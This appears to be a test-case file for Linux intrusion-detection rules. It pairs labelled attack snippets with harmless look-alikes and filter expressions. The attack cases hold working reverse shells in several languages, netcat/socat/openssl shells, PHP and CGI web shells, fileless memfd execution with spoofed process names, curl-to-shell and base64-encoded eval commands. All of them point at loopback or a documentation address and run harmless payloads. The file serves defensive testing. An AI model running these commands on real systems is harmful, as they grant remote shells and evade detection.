# Execution: programs, scripts and commands that an intruder runs.

#: suspicious_process attack: nc
echo hello | nc -w1 127.0.0.1 9

#: suspicious_process attack: ncat
echo hello | ncat -w1 127.0.0.1 9

#: suspicious_process harmless: another program of a like name
#: keep process.name == "ncal"
ln -s /bin/true /usr/local/bin/ncal
ncal

#: suspicious_process harmless: a script waits for a port
#: keep process.name in ["nc", "ncat"] AND event.action == "exec"
nc -z -w1 127.0.0.1 9
nc -zv 127.0.0.1 9
ncat -z 127.0.0.1 9

#: suspicious_process attack: nc by alice
#: by alice
id; cat /proc/self/loginuid
echo hello | nc -w1 127.0.0.1 9

#: suspicious_process attack: nc in a container
#: by container
cat /proc/self/cgroup
echo hello | nc -w1 127.0.0.1 9

#: reverse_shell attack: bash
# The other end types two commands and hangs up.
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
bash -i >& /dev/tcp/127.0.0.1/4444 0>&1
wait

#: reverse_shell attack: python
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
cat > /tmp/call.py <<'END'
import os, socket, subprocess
s = socket.create_connection(("127.0.0.1", 4444))
for number in 0, 1, 2:
    os.dup2(s.fileno(), number)
subprocess.call(["/bin/sh", "-i"])
END
python3 /tmp/call.py
wait

#: reverse_shell attack: perl
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")); connect(S, sockaddr_in(4444, inet_aton("127.0.0.1"))); open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i");'
wait

#: reverse_shell attack: php
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
php -r '$s = fsockopen("127.0.0.1", 4444); $p = proc_open("/bin/sh -i", [$s, $s, $s], $pipes); proc_close($p);'
wait

#: reverse_shell attack: ruby
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
ruby -rsocket -e 's = TCPSocket.new("127.0.0.1", 4444); exec("/bin/sh", "-i", in: s, out: s, err: s)'
wait

#: reverse_shell attack: a shell under another name
ln -s /bin/dash /tmp/update
timeout 10 socat TCP-LISTEN:4444,reuseaddr EXEC:/tmp/update,nofork &
until ss -ltn | grep -q :4444; do sleep 0.02; done
printf 'id\nexit\n' | timeout 5 socat - TCP:127.0.0.1:4444
wait

#: reverse_shell harmless: a shell in a pipeline
#: keep event.action == "exec" AND process.name == "sh" AND process.stdin.type == "pipe"
echo true | sh | cat

#: reverse_shell harmless: a shell with a socket of this host
#: keep event.action == "exec" AND process.name == "sh" AND process.stdin.type == "unix_socket"
python3 -c 'import socket, subprocess; a, b = socket.socketpair(); p = subprocess.Popen(["/bin/sh"], stdin=b, stdout=b); b.close(); a.send(b"echo done; exit\n"); print(a.recv(9)); p.wait()'

#: shell_connects attack: bash
timeout 10 socat -u OPEN:/etc/hostname TCP-LISTEN:8080,bind=203.0.113.5 &
until ss -ltn | grep -q :8080; do sleep 0.02; done
bash -c 'exec 3<>/dev/tcp/203.0.113.5/8080; cat <&3 > /tmp/fetched'
wait

#: shell_connects attack: bash by UDP
bash -c 'echo "$(</etc/hostname)" > /dev/udp/203.0.113.5/5514; sleep 0.7'

#: shell_connects harmless: a script waits for a port of this host
#: keep process.name == "bash" AND event.action == "connection_established"
timeout 10 socat -u OPEN:/etc/hostname TCP-LISTEN:5432,bind=127.0.0.1 &
until ss -ltn | grep -q :5432; do sleep 0.02; done
bash -c 'until : < /dev/tcp/127.0.0.1/5432; do sleep 0.1; done'
wait

#: shell_connects harmless: what a shell started connects
#: keep event.action == "exec" AND process.name == "curl"
timeout 10 busybox httpd -f -p 203.0.113.5:8000 -h /etc &
until ss -ltn | grep -q :8000; do sleep 0.02; done
sh -c 'curl -s http://203.0.113.5:8000/hostname'
kill %1

#: interactive_shell_over_pipe attack: nc
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
mkfifo /tmp/f
cat /tmp/f | sh -i 2>&1 | timeout 5 nc 127.0.0.1 4444 > /tmp/f
wait

#: interactive_shell_over_pipe attack: openssl
cd /tmp
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=x -keyout k.pem -out c.pem -days 1 2>/dev/null
{ sleep 0.7; printf 'id\nexit\n'; sleep 0.7; } | timeout 5 openssl s_server -quiet -key k.pem -cert c.pem -naccept 1 -accept 4433 &
until ss -ltn | grep -q :4433; do sleep 0.02; done
mkfifo /tmp/s
/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:4433 > /tmp/s 2>/dev/null
wait

#: interactive_shell_over_pipe harmless: an interactive shell in a pipeline without a network
#: keep event.action == "exec" AND (process.args == "-i" OR process.name == "tee")
echo 'echo done; exit' | sh -i 2>&1 | tee /tmp/log

#: interactive_shell_over_pipe harmless: an editor asks a shell for its environment while something is fetched
#: keep event.action in ["exec", "connection_established"] AND process.name in ["bash", "curl"] AND process.args != "/opt/session"
timeout 10 busybox httpd -f -p 127.0.0.1:8000 -h /etc &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s http://127.0.0.1:8000/hostname
true | bash -i -c 'env' | cat > /dev/null
kill %1

#: shell_between_network_tools attack: two netcats
# The commands come by one connection, what they say goes by another.
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
timeout 10 socat -u TCP-LISTEN:4445 - &
until ss -ltn | grep -q :4444 && ss -ltn | grep -q :4445; do sleep 0.02; done
nc -d 127.0.0.1 4444 | /bin/sh | nc -N 127.0.0.1 4445
wait

#: shell_between_network_tools attack: telnet
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
mkfifo /tmp/f
busybox telnet 127.0.0.1 4444 < /tmp/f | /bin/sh > /tmp/f
wait

#: shell_between_network_tools harmless: a generated script runs in a pipeline, and its log goes to another host
#: keep event.action in ["exec", "connection_established"] AND (process.name == "nc" OR process.name == "sh" AND process.stdin.type == "pipe")
timeout 10 socat -u TCP-LISTEN:4445 - &
until ss -ltn | grep -q :4445; do sleep 0.02; done
echo 'echo done' | sh -e | nc -N 127.0.0.1 4445
wait

#: netcat_runs_program attack: ncat
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
timeout 5 ncat -e /bin/sh 127.0.0.1 4444
wait

#: netcat_runs_program attack: ncat listens
timeout 5 ncat -l 4444 --sh-exec 'exec sh' &
until ss -ltn | grep -q :4444; do sleep 0.02; done
printf 'id\nexit\n' | timeout 5 socat - TCP:127.0.0.1:4444
wait

#: netcat_runs_program attack: socat
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
timeout 5 socat TCP:127.0.0.1:4444 EXEC:/bin/sh
wait

#: netcat_runs_program attack: busybox
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
timeout 5 busybox nc 127.0.0.1 4444 -e /bin/sh
wait

#: netcat_runs_program harmless: socat joins a socket of this host with a program
#: keep event.action == "exec" AND process.name == "socat"
# As for an agent's keys: nothing of it is on the network.
timeout 5 socat UNIX-LISTEN:/run/agent EXEC:cat &
until [ -S /run/agent ]; do sleep 0.02; done
echo done | socat - UNIX-CONNECT:/run/agent
wait

#: netcat_runs_program harmless: nc looks whether a port is open
#: keep event.action == "exec" AND process.name == "nc"
nc -vzw1 127.0.0.1 9
nc -C -w1 127.0.0.1 9

#: interpreter_one_liner_with_socket attack: python
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'
wait

#: interpreter_one_liner_with_socket attack: perl
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:4444");STDIN->fdopen($c,"r");$~->fdopen($c,"w");while(<>){last if /exit/;system $_}'
wait

#: interpreter_one_liner_with_socket attack: ruby
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
ruby -rsocket -e 'c=TCPSocket.new("127.0.0.1",4444);while(l=c.gets);break if l=~/exit/;IO.popen(l,"r"){|io|c.print io.read};end'
wait

#: interpreter_one_liner_with_socket attack: php
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
php -r '$s=fsockopen("127.0.0.1",4444);while($l=fgets($s)){if($l=="exit\n")break;fwrite($s,shell_exec($l));}'
wait

#: interpreter_one_liner_with_socket attack: awk
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
gawk 'BEGIN{s="/inet/tcp/0/127.0.0.1/4444";while((s|&getline c)>0){if(c=="exit")break;while((c|getline r)>0)print r|&s;close(c)}}'
wait

#: interpreter_one_liner_with_socket harmless: python waits for a port
#: keep event.action == "exec" AND process.name == "python3"
python3 -c 'import socket,sys;sys.exit(socket.socket().connect_ex(("127.0.0.1",5432)) == 0)'

#: interpreter_one_liner_with_socket harmless: python starts a program
#: keep event.action == "exec" AND process.name == "python3"
python3 -c 'import subprocess; subprocess.run(["true"])'

#: shell_behind_connected_interpreter attack: python with a terminal
# What pty.spawn of the whole Python does.
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444,bind=203.0.113.5 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
cat > /tmp/call.py <<'END'
import os, socket
s = socket.create_connection(("203.0.113.5", 4444))
pid, terminal = os.forkpty()
if pid == 0:
    os.execv("/bin/bash", ["bash", "-i"])
os.write(terminal, s.recv(99))
try:
    while data := os.read(terminal, 999):
        s.sendall(data)
except OSError:
    pass
os.waitpid(pid, 0)
END
timeout 5 python3 /tmp/call.py
wait

#: shell_behind_connected_interpreter attack: perl with pipes
printf 'id\nexit\n' | timeout 10 socat - TCP-LISTEN:4444,bind=203.0.113.5 &
until ss -ltn | grep -q :4444; do sleep 0.02; done
cat > /tmp/call.pl <<'END'
use IO::Socket::INET; use IPC::Open2;
my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.5:4444") or die;
my $pid = open2(my $out, my $in, "/bin/sh");
print $in $_ while <$s>;
close $in;
print <$out>;
END
timeout 5 perl /tmp/call.pl
wait

#: shell_behind_connected_interpreter harmless: a script fetches something and runs a command
#: keep process.name == "sh" AND event.action == "exec" OR event.action == "connection_established" AND network.direction == "outbound"
timeout 10 busybox httpd -f -p 203.0.113.5:8000 -h /etc &
until ss -ltn | grep -q :8000; do sleep 0.02; done
cat > /tmp/fetch.py <<'END'
import os, socket
s = socket.create_connection(("203.0.113.5", 8000))
s.sendall(b"GET /hostname HTTP/1.0\r\n\r\n")
print(s.recv(999))
os.system("true; true")
END
python3 /tmp/fetch.py
kill %1

#: fileless_execution attack: python
python3 -c 'import os; f = os.memfd_create("x"); os.write(f, open("/usr/bin/id", "rb").read()); os.execve(f, ["kworker/0:1"], {})'

#: fileless_execution attack: perl
perl -e '$name = "y"; $f = syscall(319, $name, 0); open($out, "+<&=", $f) or die; binmode $out; open($in, "<", "/usr/bin/id"); binmode $in; local $/; print {$out} <$in>; $out->flush; exec {"/proc/$$/fd/$f"} "sshd"; die $!'

#: fileless_execution attack: with the name of a runtime's copy
python3 -c 'import os; f = os.memfd_create("runc_cloned:/proc/self/exe"); os.write(f, open("/usr/bin/id", "rb").read()); os.execve(f, ["runc"], {})'

#: fileless_execution harmless: runc begins itself again
#: keep event.action == "exec" AND process.memfd == true
# A user's container: root's runc uses a mount instead of a file in memory.
mkdir -p /run/bundle/rootfs/bin
cp /bin/busybox /run/bundle/rootfs/bin/sh
chown -R alice /run/bundle
cd /run/bundle
setpriv --reuid=1000 --regid=1000 --clear-groups runc spec --rootless
sed -i 's/"terminal": true/"terminal": false/' config.json
# In a control group's namespace, where its groups lie below that of the deed.
unshare --cgroup --mount sh -c 'mount -t cgroup2 cgroup /sys/fs/cgroup; exec setpriv --reuid=1000 --regid=1000 --clear-groups timeout 10 runc --root /run/bundle/state run --no-pivot one'

#: fileless_execution harmless: a program by its descriptor
#: keep event.action == "exec" AND process.executable == "/usr/bin/true"
python3 -c 'import os; os.execve(os.open("/usr/bin/true", os.O_RDONLY), ["true"], {})'

#: execution_from_shared_memory attack: a program
cp /usr/bin/id /dev/shm/systemd-journal
/dev/shm/systemd-journal

#: execution_from_shared_memory attack: a script
echo id > /dev/shm/update.sh
bash /dev/shm/update.sh

#: execution_from_shared_memory attack: python
echo 'print(1)' > /dev/shm/a.py
python3 -B /dev/shm/a.py

#: execution_from_shared_memory harmless: data in shared memory are worked on
#: keep event.action == "exec" AND process.name in ["python3", "sort"]
echo 1 > /dev/shm/table
cat > /opt/count.py <<'END'
import sys
print(open(sys.argv[1]).read())
END
python3 /opt/count.py /dev/shm/table
sort /dev/shm/table

#: execution_from_temporary_folder attack: a program
cp /usr/bin/id /tmp/enumerate
/tmp/enumerate

#: execution_from_temporary_folder attack: a script by alice
#: by alice
cd /var/tmp
printf '#!/bin/sh\nid\n' > check
chmod +x check
./check

#: execution_from_temporary_folder harmless: a package's script runs something that it unpacked
#: keep event.action == "exec" AND (process.executable startswith "/tmp/" OR process.script startswith "/tmp/")
mkdir -p /opt/p/DEBIAN
printf 'Package: p\nVersion: 1\nArchitecture: all\nMaintainer: a <a@b.c>\nDescription: p\n' > /opt/p/DEBIAN/control
printf '#!/bin/sh\nf=$(mktemp -d)\ncp /bin/true $f/probe\n$f/probe\nprintf "#!/bin/sh\\ntrue\\n" > $f/set\nchmod +x $f/set\n$f/set\n' > /opt/p/DEBIAN/postinst
chmod 755 /opt/p/DEBIAN/postinst
dpkg-deb --build /opt/p /opt/p.deb
dpkg -i /opt/p.deb

#: execution_from_temporary_folder harmless: a program works in a temporary folder
#: keep event.action == "exec" AND process.working_directory == "/tmp/work" AND process.name in ["cp", "true"]
mkdir /tmp/work
cd /tmp/work
cp /etc/hostname .
true ./hostname

#: execution_from_hidden_folder attack: a program in /var/tmp
mkdir /var/tmp/.font-unix
cp /usr/bin/id /var/tmp/.font-unix/fontd
/var/tmp/.font-unix/fontd

#: execution_from_hidden_folder attack: a hidden script in a web folder
mkdir -p /var/www/html
printf '#!/bin/sh\nid\n' > /var/www/html/.cache
chmod +x /var/www/html/.cache
setpriv --reuid=www-data --regid=www-data --clear-groups /var/www/html/.cache

#: execution_from_hidden_folder attack: three dots
mkdir /tmp/...
cp /usr/bin/id '/tmp/.../id'
/tmp/.../id

#: execution_from_hidden_folder harmless: a user's own tools
#: keep event.action == "exec" AND (process.executable contains "/." OR process.script contains "/.")
#: by alice
mkdir -p ~/.local/bin ~/.cargo/bin
cp /usr/bin/id ~/.local/bin/tool
printf '#!/bin/sh\nid\n' > ~/.cargo/bin/build
chmod +x ~/.cargo/bin/build
~/.local/bin/tool
~/.cargo/bin/build

#: execution_from_hidden_folder harmless: git runs a hook of a clone in /tmp
#: keep event.action == "exec" AND process.script contains "/.git/"
mkdir /tmp/clone
cd /tmp/clone
git init -q
printf '#!/bin/sh\ntrue\n' > .git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
git -c user.name=a -c user.email=a@b.c commit -q --allow-empty -m one
/tmp/clone/.git/hooks/pre-commit

#: deleted_program_runs attack: bash
cp /usr/bin/id /tmp/id
exec 3< /tmp/id
rm /tmp/id
/proc/self/fd/3

#: deleted_program_runs attack: perl
perl -e 'system("cp", "/usr/bin/id", "/usr/local/bin/helper"); open($f, "<", "/usr/local/bin/helper"); unlink("/usr/local/bin/helper"); $^F = 99; exec {"/proc/$$/fd/" . fileno($f)} "helper"'

#: deleted_program_runs harmless: a program that was upgraded begins itself again
#: keep event.action == "exec" AND process.executable_deleted == true
mkdir -p /opt/browser
cp /bin/bash /opt/browser/browser
/opt/browser/browser -c 'rm /opt/browser/browser; cp /bin/bash /opt/browser/browser; /proc/self/exe -c "exec /bin/true"; /proc/$$/exe -c :'

#: deleted_program_runs harmless: a program is deleted while it runs
#: keep event.action == "exec" AND process.executable == "/tmp/sleep"
cp /bin/sleep /tmp/sleep
/tmp/sleep 0.2 &
sleep 0.1
rm /tmp/sleep
wait

#: web_server_shell attack: apache2
cat > /usr/lib/cgi-bin/page <<'END'
#!/usr/bin/perl
print "Content-Type: text/plain\n\n";
($c = $ENV{QUERY_STRING}) =~ s/^c=|\+/ /g;
system($c);
END
chmod +x /usr/lib/cgi-bin/page
ln -s /etc/apache2/mods-available/cgid.* /etc/apache2/mods-enabled/
. /etc/apache2/envvars
mkdir -p /run/apache2/socks
timeout 10 apache2 -D FOREGROUND &
until ss -ltn | grep -q :80; do sleep 0.02; done
curl -s 'http://127.0.0.1/cgi-bin/page?c=pwd;ls+-l'
kill %1
wait

#: web_server_shell attack: php
mkdir /tmp/www
echo '<?php system($_GET["c"]);' > /tmp/www/a.php
timeout 10 php -S 127.0.0.1:8000 -t /tmp/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s 'http://127.0.0.1:8000/a.php?c=pwd'
kill %1
wait

#: web_server_shell attack: busybox
mkdir -p /srv/www/cgi-bin
printf '#!/bin/sh\necho\nsh -c "$QUERY_STRING"\n' > /srv/www/cgi-bin/a
chmod +x /srv/www/cgi-bin/a
ln -s /bin/busybox /usr/sbin/httpd
timeout 10 httpd -f -p 127.0.0.1:8000 -h /srv/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s 'http://127.0.0.1:8000/cgi-bin/a?pwd'
kill %1
wait

#: web_server_shell harmless: a page of PHP sends a mail
#: keep event.action == "exec" AND process.name == "sh" AND process.command_line contains "sendmail"
printf '#!/bin/sh\ncat > /dev/null\n' > /usr/sbin/sendmail
chmod +x /usr/sbin/sendmail
mkdir /tmp/www
echo '<?php var_dump(mail("a@b.c", "Subject", "Text"));' > /tmp/www/a.php
timeout 10 php -S 127.0.0.1:8000 -t /tmp/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s http://127.0.0.1:8000/a.php
kill %1
wait

#: web_server_shell harmless: a shell starts the server
#: keep event.action == "exec" AND process.name in ["apache2ctl", "sh", "apache2"]
sh -c 'apache2ctl -t'
. /etc/apache2/envvars
mkdir -p /run/apache2/socks
timeout 10 apache2 -D FOREGROUND &
until ss -ltn | grep -q :80; do sleep 0.02; done
curl -s http://127.0.0.1/ | head -n 1
kill %1
wait

#: web_server_runs_reconnaissance attack: apache2
cat > /usr/lib/cgi-bin/page <<'END'
#!/usr/bin/perl
print "Content-Type: text/plain\n\n";
($c = $ENV{QUERY_STRING}) =~ s/^c=|\+/ /g;
system($c);
END
chmod +x /usr/lib/cgi-bin/page
ln -s /etc/apache2/mods-available/cgid.* /etc/apache2/mods-enabled/
. /etc/apache2/envvars
mkdir -p /run/apache2/socks
timeout 10 apache2 -D FOREGROUND &
until ss -ltn | grep -q :80; do sleep 0.02; done
curl -s 'http://127.0.0.1/cgi-bin/page?c=id;uname+-a;cat+/etc/passwd' | head -n 3
kill %1
wait

#: web_server_runs_reconnaissance attack: php
mkdir /tmp/www
echo '<?php passthru($_GET["c"]);' > /tmp/www/a.php
timeout 10 php -S 127.0.0.1:8000 -t /tmp/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s 'http://127.0.0.1:8000/a.php?c=whoami'
kill %1
wait

#: web_server_runs_reconnaissance harmless: an application asks for its version
#: keep event.action == "exec" AND process.name in ["uname", "git"]
mkdir /tmp/www
echo '<?php echo shell_exec("uname -s; git --version");' > /tmp/www/a.php
timeout 10 php -S 127.0.0.1:8000 -t /tmp/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s http://127.0.0.1:8000/a.php
kill %1
wait

#: web_server_runs_reconnaissance harmless: an administrator looks at a server
#: keep event.action == "exec" AND process.name in ["id", "curl"]
timeout 10 php -S 127.0.0.1:8000 -t /tmp &
until ss -ltn | grep -q :8000; do sleep 0.02; done
id; curl -s http://127.0.0.1:8000/
kill %1
wait

#: database_shell attack: postgres writes to a program
mkdir -p /run/postgresql && chown postgres /run/postgresql
postgres=/usr/lib/postgresql/15/bin/postgres
setpriv --reuid=postgres --regid=postgres --init-groups timeout 20 $postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf 2> /dev/null &
until setpriv --reuid=postgres --regid=postgres --clear-groups psql -qc "COPY (SELECT 1) TO PROGRAM 'cat > /tmp/out'" 2> /dev/null; do sleep 0.1; done
cat /tmp/out
kill %1
wait

#: database_shell attack: postgres reads from a program
mkdir -p /run/postgresql && chown postgres /run/postgresql
postgres=/usr/lib/postgresql/15/bin/postgres
setpriv --reuid=postgres --regid=postgres --init-groups timeout 20 $postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf 2> /dev/null &
until setpriv --reuid=postgres --regid=postgres --clear-groups psql -qc "CREATE TABLE t (line text)" 2> /dev/null; do sleep 0.1; done
setpriv --reuid=postgres --regid=postgres --clear-groups psql -c "COPY t FROM PROGRAM 'id; pgbackrest archive-push pg_wal/1'; TABLE t"
kill %1
wait

#: database_shell harmless: postgres archives with pgBackRest
#: keep event.action == "exec" AND process.name == "sh" AND process.command_line contains "pgbackrest"
# pgBackRest itself is not on this machine; postgres begins it in earnest.
printf '#!/bin/sh\ncp /var/lib/postgresql/15/main/$2 /tmp/\n' > /usr/bin/pgbackrest
chmod +x /usr/bin/pgbackrest
mkdir -p /run/postgresql && chown postgres /run/postgresql
postgres=/usr/lib/postgresql/15/bin/postgres
setpriv --reuid=postgres --regid=postgres --init-groups timeout 20 $postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf -c archive_mode=on -c 'archive_command=pgbackrest archive-push %p' 2> /dev/null &
until setpriv --reuid=postgres --regid=postgres --clear-groups psql -Atqc "SELECT pg_switch_wal()" 2> /dev/null; do sleep 0.1; done
until ls /tmp/0000* 2> /dev/null; do sleep 0.1; done
kill %1
wait

#: database_shell harmless: postgres archives as its manual says
#: keep event.action == "exec" AND process.name == "sh" AND process.command_line contains "/tmp/archive"
mkdir -p /run/postgresql && chown postgres /run/postgresql
mkdir /tmp/archive && chown postgres /tmp/archive
postgres=/usr/lib/postgresql/15/bin/postgres
setpriv --reuid=postgres --regid=postgres --init-groups timeout 20 $postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf -c archive_mode=on -c 'archive_command=test ! -f /tmp/archive/%f && cp %p /tmp/archive/%f' 2> /dev/null &
until setpriv --reuid=postgres --regid=postgres --clear-groups psql -Atqc "SELECT pg_switch_wal()" 2> /dev/null; do sleep 0.1; done
until ls /tmp/archive/0000* 2> /dev/null; do sleep 0.1; done
kill %1
wait

#: database_shell harmless: a shell starts the database
#: keep event.action == "exec" AND process.name in ["sh", "postgres"]
cd /tmp
setpriv --reuid=postgres --regid=postgres --init-groups sh -c '/usr/lib/postgresql/15/bin/pg_ctl --version; /usr/lib/postgresql/15/bin/postgres --version'

#: download_piped_into_shell attack: curl and sh
mkdir /tmp/www
echo 'id' > /tmp/www/install.sh
timeout 10 busybox httpd -f -p 127.0.0.1:8000 -h /tmp/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -fsSL http://127.0.0.1:8000/install.sh | sh -s -- --yes
kill %1

#: download_piped_into_shell attack: wget and bash
mkdir /tmp/www
echo 'id' > /tmp/www/install.sh
timeout 10 busybox httpd -f -p 127.0.0.1:8000 -h /tmp/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
wget -qO- http://127.0.0.1:8000/install.sh | bash
kill %1

#: download_piped_into_shell attack: curl and python
mkdir /tmp/www
echo 'print(1)' > /tmp/www/install.py
timeout 10 busybox httpd -f -p 127.0.0.1:8000 -h /tmp/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s http://127.0.0.1:8000/install.py | python3 -
kill %1

#: download_piped_into_shell attack: curl and sudo by alice
#: by alice
mkdir /tmp/www
echo 'id' > /tmp/www/install.sh
timeout 10 busybox httpd -f -p 127.0.0.1:8000 -h /tmp/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s http://127.0.0.1:8000/install.sh | sudo -E bash -
kill %1

#: download_piped_into_shell attack: bash reads a substitution
mkdir /tmp/www
echo 'id' > /tmp/www/install.sh
timeout 10 busybox httpd -f -p 127.0.0.1:8000 -h /tmp/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
bash <(curl -s http://127.0.0.1:8000/install.sh)
kill %1

#: download_piped_into_shell harmless: what was fetched is looked at
#: keep event.action == "exec" AND process.name in ["curl", "python3", "sh"]
mkdir /tmp/www
echo '[1]' > /tmp/www/a.json
timeout 10 busybox httpd -f -p 127.0.0.1:8000 -h /tmp/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -s http://127.0.0.1:8000/a.json | python3 -c 'import sys; print(sys.stdin.read())'
curl -s http://127.0.0.1:8000/a.json | sh -c 'cat'
kill %1

#: decoded_text_into_shell attack: base64
echo aWQK | base64 -d | sh

#: decoded_text_into_shell attack: xxd
echo 69640a | xxd -r -p | bash

#: decoded_text_into_shell attack: openssl into python
echo cHJpbnQoMSkK | openssl base64 -d | python3

#: decoded_text_into_shell harmless: a decoded text is read
#: keep event.action == "exec" AND process.name in ["base64", "sh", "grep"]
echo aWQK | base64 -d | grep id
echo id | base64 | sh -c 'cat'

#: encoded_command attack: python
python3 -c 'import base64; exec(base64.b64decode("cHJpbnQoMSkK"))'

#: encoded_command attack: perl
perl -MMIME::Base64 -e 'eval(decode_base64("c3lzdGVtKCJpZCIpOw=="))'

#: encoded_command attack: php
php -r 'eval(base64_decode("c3lzdGVtKCJpZCIpOw=="));'

#: encoded_command attack: ruby
ruby -e 'eval("c3lzdGVtKCJpZCIp".unpack("m")[0])'

#: encoded_command attack: bash
bash -c 'echo aWQK | base64 -d | bash'

#: encoded_command attack: sh by a substitution
sh -c 'eval "$(echo aWQK | base64 --decode)"'

#: encoded_command harmless: python decodes a text
#: keep event.action == "exec" AND process.name in ["python3", "bash"] AND process.command_line contains "64"
python3 -c 'import base64; print(base64.b64decode("aWQK"))'
bash -c 'echo aWQK | base64 -d > /opt/text; cat /opt/text'
bash -c 'echo id | base64'

#: written_and_run attack: nc into a home folder by alice
#: by alice
timeout 5 nc -l 127.0.0.1 8000 > tool &
until ss -ltn | grep -q :8000; do sleep 0.02; done
nc -N 127.0.0.1 8000 < /usr/bin/id
wait
chmod +x tool
./tool

#: written_and_run attack: python
python3 -c 'open("/dev/shm/id", "wb").write(open("/usr/bin/id", "rb").read())'
chmod +x /dev/shm/id
/dev/shm/id

#: written_and_run attack: a decoded program
base64 /usr/bin/id > /opt/text
base64 -d /opt/text > /var/tmp/id
chmod 755 /var/tmp/id
/var/tmp/id

#: written_and_run harmless: a program is copied and run
#: keep event.action in ["exec", "create"] AND (file.path == "/tmp/id" OR process.executable == "/tmp/id")
cp /usr/bin/id /tmp/id
/tmp/id

#: written_and_run harmless: an archive is fetched, and an installed program unpacks it
#: keep event.action in ["exec", "create"] AND (file.path == "/tmp/a.tar" OR process.name == "tar")
mkdir /tmp/www
tar -C /etc -cf /tmp/www/a.tar hostname
timeout 10 busybox httpd -f -p 127.0.0.1:8000 -h /tmp/www &
until ss -ltn | grep -q :8000; do sleep 0.02; done
curl -so /tmp/a.tar http://127.0.0.1:8000/a.tar
tar -C /tmp -xf /tmp/a.tar
kill %1

#: written_script_run attack: perl
perl -e 'open F, ">", "/tmp/update"; print F "#!/bin/sh\nid\n"; close F'
chmod +x /tmp/update
/tmp/update

#: written_script_run attack: python by alice
#: by alice
python3 -c 'open("run", "w").write("#!/bin/sh\nid\n")'
chmod +x run
./run

#: written_script_run harmless: somebody writes a script and runs it
#: keep event.action in ["exec", "create"] AND (file.path == "/root/check" OR process.script == "/root/check")
cat > check <<'END'
#!/bin/sh
id
END
chmod +x check
./check

#: program_run_by_dynamic_linker attack: a program that is not executable
cp /usr/bin/id /opt/data
chmod 644 /opt/data
/lib64/ld-linux-x86-64.so.2 /opt/data

#: program_run_by_dynamic_linker attack: from a file system where nothing may be run
mkdir /opt/noexec
mount -t tmpfs -o noexec none /opt/noexec
cp /usr/bin/id /opt/noexec/
ld.so --argv0 sshd /opt/noexec/id

#: program_run_by_dynamic_linker harmless: ldd
#: keep event.action == "exec" AND process.executable contains "/ld-linux"
ldd /usr/bin/id
/lib64/ld-linux-x86-64.so.2 --list /usr/bin/id

#: program_run_from_web_folder attack: a program
mkdir -p /var/www/html/uploads
cp /usr/bin/id /var/www/html/uploads/picture.png
chmod +x /var/www/html/uploads/picture.png
setpriv --reuid=www-data --regid=www-data --clear-groups /var/www/html/uploads/picture.png

#: program_run_from_web_folder attack: a script among uploads
mkdir -p /var/www/html/uploads
printf '#!/bin/sh\nid\n' > /var/www/html/uploads/a.sh
chmod +x /var/www/html/uploads/a.sh
